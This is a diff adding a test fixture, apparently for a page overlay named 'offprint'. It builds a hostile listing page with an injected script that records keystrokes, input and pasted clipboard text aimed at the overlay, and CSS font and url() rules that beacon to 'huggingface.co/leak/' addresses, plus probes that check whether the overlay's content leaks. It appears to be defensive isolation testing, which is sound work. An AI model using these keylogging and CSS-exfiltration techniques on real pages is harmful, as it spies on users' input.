@@ -1,0 +1,60 @@
+/** A listing whose own scripts and styles try to find out what its reader keeps: which papers, which tags, which notes. */
+import { listingPage } from './listing';
+import { invented } from './papers';
+
+/** The papers on it. */
+export const watched = invented.slice(0, 8);
+
+const events = [
+  ...['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'textInput', 'change', 'copy', 'cut', 'paste'],
+  ...['compositionstart', 'compositionupdate', 'compositionend', 'dragstart', 'drop'],
+];
+
+/** Fonts by every name that an overlay could use, and values for its custom properties: each would be fetched when drawn. */
+const names = ['system-ui', '-apple-system', 'sans-serif', 'monospace', 'ui-monospace', 'Segoe UI', 'Roboto', 'bait'];
+const fonts = names.flatMap((name, at) => [
+  `@font-face { font-family: ${name}; src: url(https://huggingface.co/leak/${at}) }`,
+  `@font-face { font-family: "${name}"; src: url(https://huggingface.co/leak/quoted-${at}) }`,
+]);
+const properties = ['accent-soft', 'sunken', 'raised', 'text', 'bg', 'line', 'dot', 'tag-0', 'tag-5'].map(
+  (name) => `--${name}: url(https://huggingface.co/leak/${name})`,
+);
+
+const style = `${fonts.join('\n')}
+offprint-card, offprint-layer { --font: bait; --mono: bait; font-family: bait !important; ${properties.join('; ')} }`;
+
+const script = `
+  globalThis.heard = [];
+  for (const type of ${JSON.stringify(events)}) addEventListener(type, (event) => {
+    const pasted = event.clipboardData?.getData('text/plain');
+    if (event.target?.localName?.startsWith('offprint-layer')) heard.push([type, event.key, event.data, pasted].join(' '));
+  }, true);`;
+
+export const spyPage = listingPage('daily', watched).replace(
+  '<head>',
+  `<head><script>${script}</script><style>${style}</style>`,
+);
+
+/** All that the page can see of the controls in the window: their markup, their sizes, and where they take the pointer. */
+export const look = `JSON.stringify([...document.querySelectorAll('offprint-card')].filter((host) => {
+  const { top, bottom } = host.getBoundingClientRect();
+  return top > 0 && bottom < innerHeight;
+}).map((host) => {
+  const box = host.getBoundingClientRect();
+  const hits = [];
+  for (let x = 1; x < box.width; x += 2) hits.push(document.elementFromPoint(box.x + x, box.y + 11) === host ? 1 : 0);
+  return [host.outerHTML, box.width, box.height, host.scrollWidth, host.scrollHeight, host.shadowRoot, hits.join('')];
+}))`;
+
+/** Whether the page finds a text, by any of the ways that reach the text of a document. */
+export const finds = (text: string): string => `(() => {
+  const wanted = ${JSON.stringify(text)};
+  const selection = getSelection();
+  selection.selectAllChildren(document.documentElement);
+  const found = [document.documentElement.innerText, document.documentElement.outerHTML, selection.toString()].map((all) => all.includes(wanted));
+  selection.removeAllRanges();
+  return [...found, typeof find === 'function' && find(wanted)].includes(true);
+})()`;
+
+/** What the styles led to: addresses fetched. */
+export const fetched = `performance.getEntriesByType('resource').map(({ name }) => name).filter((name) => name.includes('/leak/'))`;
